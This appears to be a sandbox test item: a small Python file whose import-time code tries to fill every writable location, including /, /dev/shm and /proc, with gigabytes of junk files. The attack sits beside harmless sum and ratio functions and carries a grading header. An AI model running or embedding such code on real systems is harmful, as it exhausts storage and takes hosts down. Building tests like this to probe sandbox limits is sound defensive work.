# Tries: fills every place that can be written, with large files and with many small ones.
# Deserves: total=4 smooth=4 scale=4 ratio=4

# %% total
import os

written = 0
for place in ("/tmp", "/dev/shm", "/dev", "/var/tmp", "/run", "/proc", "/"):
    try:
        for number in range(10_000):
            with open(f"{place}/{number}", "wb") as file:
                for _ in range(200):
                    written += file.write(b"x" * 1_000_000)
    except OSError:
        pass


def total(numbers):
    if written > 140_000_000:
        raise ValueError(f"wrote {written}")
    return sum(n * n for n in numbers)

# %% ratio
def ratio(numbers):
    return sum(n * n for n in numbers) / len(numbers)
